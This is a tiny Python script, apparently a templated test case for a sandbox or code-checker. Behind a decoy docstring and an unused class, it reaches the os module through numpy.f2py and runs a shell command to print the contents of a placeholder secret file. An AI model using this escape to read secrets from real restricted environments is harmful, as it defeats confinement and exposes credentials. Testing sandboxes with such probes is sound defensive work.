"""A class has a name."""
import numpy as np
module = [np][0]
class _getattr_:
    def __new__(cls, owner, name):
        return getattr(owner, name)
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
